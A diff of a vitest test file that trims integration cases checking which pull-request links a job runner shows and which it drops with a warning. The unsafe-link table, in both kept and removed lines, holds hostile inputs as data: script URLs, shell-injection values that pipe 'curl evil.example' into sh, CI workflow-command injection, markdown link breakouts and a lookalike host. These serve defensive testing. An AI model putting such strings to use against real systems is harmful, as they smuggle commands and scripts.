@@ -1,6 +1,8 @@
 import { describe, expect, test } from 'vitest'
 import { createWorld } from '../../world/index.ts'
 
+// Which links are safe is a table of unit tests (`unit/runner/plain-url.test.ts`); here is what becomes of either kind.
+
 /** Runs a job that ends at once with this link. */
 async function runWithLink(prLink: string) {
   await using world = await createWorld()
@@ -15,12 +17,8 @@ async function runWithLink(prLink: string) {
 describe.concurrent('a link that is safe to show', () => {
   test.each([
     ['https://github.com/acme/docs/pull/42', '42'],
-    ['https://github.com/acme/docs/pull/42/', '42'],
-    ['http://git.example:8080/a_b/c.d~e/pulls/9', '9'],
     ['https://gitlab.example/group/-/merge_requests/3?tab=notes#note_1', '3'],
-    ['https://github.com/acme/docs/pull/42/files', ''],
     ['https://github.com/acme/docs', ''],
-    [`https://github.com/${'a'.repeat(2048 - 21)}/1`, '1'],
   ])('%s', async (prLink, prNumber) => {
     const { result, comment } = await runWithLink(prLink)
 
@@ -35,29 +33,10 @@ describe.concurrent('a link that is safe to show', () => {
 describe.concurrent('a link that is not safe to show is left out, with a warning', () => {
   test.each([
     'javascript:alert(1)',
-    'data:text/html,<script>alert(1)</script>',
-    'ftp://github.com/acme/docs/pull/1',
     'https://github.com@evil.example/acme/docs/pull/1',
-    'https://user:secret@github.com/acme/docs/pull/1',
-    'https://github.com/acme/docs/pull/1;curl evil.example|sh',
-    'https://github.com/$(curl evil.example)/pull/1',
-    'https://github.com/$IFS/pull/1',
-    'https://github.com/`id`/pull/1',
-    'https://github.com/acme/docs/pull/1\'"',
-    'https://github.com/acme/docs/pull/1&x=y',
-    'https://github.com/acme docs/pull/1',
-    ' https://github.com/acme/docs/pull/1',
     'https://github.com/acme/docs/pull/1\n::set-output name=outcome::error',
-    'https://github.com/acme/docs/pull/1\r##[error]no',
     'https://github.com/acme/docs/pull/1)](https://evil.example',
-    'https://github.com/acme/docs/püll/1',
-    'https://gіthub.com/acme/docs/pull/1',
-    'https://github.com/acme/docs/pull/1\u202e',
-    `https://github.com/${'a'.repeat(2049 - 21)}/1`,
-    '//github.com/acme/docs/pull/1',
     '/acme/docs/pull/1',
-    'https://',
-    'https:github.com/acme/docs/pull/1',
     '@everyone',
   ])('%j', async (prLink) => {
     const { result, comment } = await runWithLink(prLink)
